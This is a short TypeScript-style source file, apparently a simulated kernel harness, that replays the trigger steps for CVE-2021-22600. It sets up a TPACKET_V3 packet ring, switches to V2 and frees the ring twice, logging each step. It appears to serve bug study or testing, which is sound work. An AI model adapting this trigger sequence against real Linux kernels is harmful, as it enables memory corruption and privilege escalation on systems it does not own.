/** The steps that led to CVE-2021-22600: a ring of V3 is taken away, then one of V2 that is not there. */
import { misc_register, misc_deregister, module_exit, pr_info, type file_operations } from 'linux'
import { spawn, open, close, ioctl, O_RDWR } from 'user'
import { BLOCK, BLOCKS, scratch, set_ring } from './capture.ts'

const PACKET_VERSION = 10
const TPACKET_V2 = 1
const TPACKET_V3 = 2

function change(): void {
  const req = scratch()
  const fd = open('/dev/packet', O_RDWR)
  ioctl(fd, PACKET_VERSION, TPACKET_V3)
  pr_info(`V3 ring: ${set_ring(fd, req, BLOCK, BLOCKS)}`)
  pr_info(`change under the ring: ${ioctl(fd, PACKET_VERSION, TPACKET_V2)}`)
  pr_info(`take it away: ${set_ring(fd, req, BLOCK, 0)}`)
  pr_info(`change: ${ioctl(fd, PACKET_VERSION, TPACKET_V2)}`)
  pr_info(`take nothing away: ${set_ring(fd, req, BLOCK, 0)}`)
  close(fd)
}

export function run_versions(fops: file_operations): void {
  const misc = { name: 'packet', fops }
  misc_register(misc)
  module_exit(() => misc_deregister(misc))
  spawn('change', change)
}
